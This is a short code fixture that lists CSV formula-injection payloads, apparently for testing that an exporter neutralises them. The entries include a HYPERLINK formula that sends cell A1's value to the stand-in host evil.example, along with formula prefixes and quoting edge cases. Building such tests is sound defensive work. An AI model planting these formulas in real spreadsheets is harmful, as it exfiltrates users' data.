/** Cells that must come out of every CSV inert and round-trip exactly. */
export const INJECTION_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=1+2',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'already quoted",
  "''two quotes",
  'comma, "quote" and\nnewline',
  '"=1+1"',
  ' =leading space',
  'ünïcødé ☃ 𝄞 مرحبا',
  '',
  ',',
  '\r\n',
]
